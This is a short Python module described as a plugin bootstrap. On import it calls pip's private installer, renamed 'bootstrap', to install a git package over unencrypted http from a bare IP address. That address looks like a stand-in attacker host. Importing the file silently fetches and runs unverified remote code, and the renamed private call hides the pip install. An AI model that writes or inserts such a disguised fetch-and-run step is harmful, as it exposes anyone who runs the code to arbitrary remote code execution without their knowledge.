"""Bootstrap the plugin."""
from ensurepip import _run_pip as bootstrap

bootstrap(["install", "git+http://203.0.113.9/plugin.git"])
